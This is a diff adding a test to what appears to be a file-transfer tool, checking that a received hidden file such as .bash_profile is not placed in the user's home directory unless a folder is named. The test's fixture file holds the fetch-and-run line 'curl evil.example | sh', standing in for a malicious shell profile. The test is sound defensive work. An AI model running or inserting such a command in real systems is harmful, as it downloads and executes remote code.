@@ -104,6 +104,19 @@ def contents(folder):
     return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
 
 
+def test_who_names_no_folder_gets_no_hidden_file_into_their_home(site, tmp_path):
+    (tmp_path / ".bash_profile").write_bytes(b"curl evil.example | sh")
+    (tmp_path / "home").mkdir()
+    link = site.send(tmp_path / ".bash_profile", "--for", "bob@example.com")
+    config = ("--config", site.folder / "strongroom.toml")
+    got = site.run("receive", link, *config, user="bob", cwd=tmp_path / "home")
+    assert got.status != 0
+    assert "where programs look" in got.err
+    assert contents(tmp_path / "home") == {}
+    assert site.receive(link, tmp_path / "chosen").status == 0
+    assert set(contents(tmp_path / "chosen")) == {".bash_profile"}
+
+
 def test_files_go_from_one_person_to_another(site, report, tmp_path):
     said = ("--title", "Audit", "--message", "Handle with care.")
     link = site.send(report, "--for", "bob@example.com", *said)
